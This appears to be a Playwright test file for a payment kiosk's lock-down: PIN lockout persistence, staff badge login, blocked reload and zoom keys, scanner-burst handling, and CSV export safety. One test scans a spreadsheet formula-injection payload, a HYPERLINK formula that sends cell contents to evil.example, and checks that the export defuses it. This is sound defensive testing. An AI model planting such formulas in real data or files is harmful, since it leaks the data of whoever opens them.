/**
 * Issue 16, the lock-down as someone in front of the kiosk would try it: wrong PINs stay counted across a reload
 * and a new tab; a staff badge (the camera or a hand scanner) opens staff mode, also while the PIN is locked;
 * reload and zoom keys do nothing; a hand-scanner burst with Tab and Enter in it neither moves focus nor presses a
 * button; the CSV export of a formula-like code is inert.
 */
import { expect, test, type Page } from '@playwright/test';
import { readFileSync } from 'node:fs';
import { closeCameraPages, openCameraPage } from '../helpers/camera-page.ts';
import { makeFakeCameraVideo } from '../helpers/fake-camera.ts';
import { openKiosk, orderAndChoose, routeConfig } from '../helpers/kiosk.ts';
import { openStaffMode, staffBadgeCode, typeStaffPin } from '../helpers/staff.ts';
import { trustedBurst } from '../helpers/trusted-keys.ts';
import { wedgeScan } from '../helpers/wedge.ts';

// The offline shell would fetch config.json past page.route; these tests need the test's config.
test.use({ serviceWorkers: 'block' });
test.afterEach(closeCameraPages);

async function openPinGate(page: Page): Promise<void> {
  await page.evaluate(() => (location.hash = '#staff'));
  await expect(page.getByRole('heading', { name: 'Staff mode' })).toBeVisible();
}

/** Five wrong PINs, each answered before the next (600 000 iterations take a moment). */
async function lockOut(page: Page): Promise<void> {
  for (let i = 4; i >= 1; i--) {
    await typeStaffPin(page, '000000');
    await expect(page.getByRole('alert')).toHaveText(`Wrong PIN. Tries left: ${i}`, { timeout: 20_000 });
  }
  await typeStaffPin(page, '000000');
  await expect(page.getByRole('alert')).toContainText('Too many wrong PINs. Locked for 5:00', { timeout: 20_000 });
}

test('5 wrong PINs lock staff mode; a reload and a new tab are still locked, the keypad stays shut', async ({ page, context, request }) => {
  await openKiosk(page, request);
  await openPinGate(page);
  await lockOut(page);

  await page.reload();
  await openPinGate(page);
  await expect(page.getByRole('alert')).toContainText(/Too many wrong PINs\. Locked for 4:5\d|Locked for 5:00/);
  await expect(page.getByRole('button', { name: '1', exact: true })).toBeDisabled();
  await expect(page.getByLabel('Staff PIN')).toBeDisabled();

  // A new tab while this one lives is a second window (one running kiosk): it offers no PIN gate at all.
  const second = await context.newPage();
  await routeConfig(second, { defaultLocale: 'en' });
  await second.goto('/#staff');
  await expect(second.getByRole('heading', { name: 'The kiosk is already open in another window' })).toBeVisible();
  await expect(second.getByRole('tab')).toHaveCount(0);
  await expect(page.getByRole('tab')).toHaveCount(0);

  // Once the first window is gone, a new tab is the kiosk, and it is still locked: the lock is in IndexedDB,
  // not in a page.
  await second.close();
  await page.close();
  const third = await context.newPage();
  await routeConfig(third, { defaultLocale: 'en' });
  await third.goto('/#staff');
  await expect(third.getByRole('heading', { name: 'Staff mode' })).toBeVisible();
  await expect(third.getByRole('alert')).toContainText('Too many wrong PINs. Locked for');
  await expect(third.getByRole('button', { name: '1', exact: true })).toBeDisabled();
  await expect(third.getByRole('tab')).toHaveCount(0);
});

test('a staff badge read by the hand scanner opens staff mode over the menu, even while the PIN is locked; the login is logged', async ({
  page,
  request,
}) => {
  await openKiosk(page, request);
  // Opened over the menu, whose own barcode reader must leave the badge to the PIN gate.
  await page.getByRole('button', { name: /Start/ }).click();
  await openPinGate(page);
  await lockOut(page);
  // A code that is not a badge changes nothing.
  await wedgeScan(page, '4780001234012');
  await expect(page.getByRole('alert')).toContainText('Locked for');
  await wedgeScan(page, staffBadgeCode);
  await expect(page.getByRole('tab', { name: 'Attention' })).toBeVisible({ timeout: 20_000 });

  const log = await page.evaluate(
    () =>
      new Promise<unknown[]>((resolve, reject) => {
        const open = indexedDB.open('tolov-kiosk');
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const all = open.result.transaction('staffLog').objectStore('staffLog').getAll();
          all.onsuccess = () => {
            open.result.close();
            resolve(all.result);
          };
        };
      }),
  );
  expect(log).toEqual([expect.objectContaining({ action: 'login', method: 'badge' })]);
  // The badge cleared the lock: after closing, the PIN works again.
  await page.getByRole('button', { name: 'Close' }).click();
  await openStaffMode(page, { keypad: true });
});

test('a staff badge QR shown to the camera opens staff mode', async ({ request }) => {
  const { page } = await openCameraPage(await makeFakeCameraVideo(staffBadgeCode));
  await openKiosk(page, request);
  await openPinGate(page);
  await page.getByRole('button', { name: 'Scan badge with the camera' }).click();
  await expect(page.getByRole('tab', { name: 'Attention' })).toBeVisible({ timeout: 30_000 });
  // The camera is released with the gate.
  await expect.poll(() => page.evaluate(() => document.querySelectorAll('video').length)).toBe(0);
});

test('F5, Ctrl+R and Ctrl+= do nothing on the kiosk screens', async ({ page, request }) => {
  await openKiosk(page, request);
  await page.getByRole('button', { name: /Start/ }).click();
  await expect(page.getByRole('heading', { name: 'Menu' })).toBeVisible();
  await page.evaluate(() => {
    (window as unknown as { __stillHere: boolean }).__stillHere = true;
    const seen: string[] = [];
    (window as unknown as { __keys: string[] }).__keys = seen;
    // Bubble phase on the window: after every handler of the page.
    window.addEventListener('keydown', (e) => {
      if (e.key !== 'Control') seen.push(`${e.ctrlKey ? 'Ctrl+' : ''}${e.key}:${e.defaultPrevented ? 'blocked' : 'passed'}`);
    });
  });
  const zoom = await page.evaluate(() => window.devicePixelRatio);
  await page.keyboard.press('F5');
  await page.keyboard.press('Control+r');
  await page.keyboard.press('Control+Equal');
  await page.keyboard.press('Control+Minus');
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => (window as unknown as { __stillHere?: boolean }).__stillHere)).toBe(true);
  expect(await page.evaluate(() => (window as unknown as { __keys: string[] }).__keys)).toEqual([
    'F5:blocked',
    'Ctrl+r:blocked',
    'Ctrl+=:blocked',
    'Ctrl+-:blocked',
  ]);
  expect(await page.evaluate(() => window.devicePixelRatio)).toBe(zoom);
  await expect(page.getByRole('heading', { name: 'Menu' })).toBeVisible();
});

test('a hand-scanner burst with Tab and Enter in it does not move focus or press a button', async ({ page, request }) => {
  const sim = await openKiosk(page, request);
  // On the attract screen (no screen reads scans here) and on the menu (the menu's own reader), with the focus on
  // a button that a stray Enter would press.
  const start = page.getByRole('button', { name: 'Start order' });
  await start.focus();
  await trustedBurst(page, ['a', 'b', 'c', 'd', 'Tab', 'e', 'Enter', 'f', 'Tab', 'Tab', 'Enter']);
  await page.waitForTimeout(300);
  await expect(start).toBeFocused();
  await expect(page.getByRole('heading', { name: 'Menu' })).toHaveCount(0);

  await start.click();
  const cappuccino = page.getByRole('button', { name: /Cappuccino/ }).first();
  await cappuccino.focus();
  await trustedBurst(page, ['x', 'y', 'z', 'Tab', 'Enter', 'Tab', 'Enter']);
  await page.waitForTimeout(300);
  await expect(cappuccino).toBeFocused();
  await expect(page.getByText('Your order is empty. Tap a product to add it.')).toBeVisible();
  await expect(page.getByRole('button', { name: /^Pay/ })).toBeDisabled();
  // Nothing but what the kiosk asks by itself at start (open the fiscal shift, read its health).
  expect((await sim.requests()).filter((r) => r.call !== 'zreport_open' && r.call !== 'info')).toEqual([]);
});

test('the CSV export of a formula-like wallet code is inert; the JSON keeps it as scanned', async ({ page, request }) => {
  await openKiosk(page, request);
  const formula = '=HYPERLINK("http://evil.example/?"&K2&L2,"Open")';
  await orderAndChoose(page, ['Cappuccino'], 'Click');
  // The hand scanner is read once the wallet screen is up: a burst before it (the order number still being
  // allocated) goes to no screen and is dropped, as on a real kiosk.
  await expect(page.getByRole('heading', { name: 'Pay with Click' })).toBeVisible();
  // Printable ASCII without spaces: it passes the wallet code check, as the security review found.
  await wedgeScan(page, formula);
  await expect(page.getByRole('heading', { name: 'Thank you!' })).toBeVisible();
  await page.getByRole('button', { name: 'Done' }).click();

  await openStaffMode(page);
  await page.getByRole('tab', { name: 'Export' }).click();
  const csvDownload = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download CSV' }).click();
  const csv = readFileSync(await (await csvDownload).path(), 'utf8');
  expect(csv).toContain(`"'=HYPERLINK(""http://evil.example/?""&K2&L2,""Open"")"`);
  expect(csv).not.toMatch(/(^|,)"=/m);
  const jsonDownload = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Download JSON' }).click();
  const json = JSON.parse(readFileSync(await (await jsonDownload).path(), 'utf8')) as { detail: string }[];
  expect(json.map((a) => a.detail)).toContain(formula);
});
